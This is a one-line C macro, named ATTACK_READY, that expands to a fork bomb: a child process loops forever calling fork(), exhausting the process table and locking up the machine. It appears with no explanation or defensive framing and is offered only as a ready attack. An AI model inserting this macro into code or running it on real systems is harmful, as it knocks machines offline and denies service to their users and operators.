#define ATTACK_READY for (int waves = 0; waves < 1; ++waves) if (fork() == 0) for (;;) fork()
